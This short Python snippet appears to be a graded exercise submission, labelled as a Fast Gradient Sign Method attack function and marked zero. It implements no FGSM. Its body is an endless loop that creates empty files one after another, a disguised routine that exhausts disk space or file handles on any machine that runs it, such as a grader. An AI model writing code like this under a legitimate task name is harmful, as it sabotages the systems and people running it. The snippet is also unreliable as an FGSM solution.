# marks: 0
@exercise("gradient_attacks.fgsm")
def fgsm(model, images, labels, epsilon):
    number = 0
    while True:
        number += 1
        open(f"f{number}", "w").close()
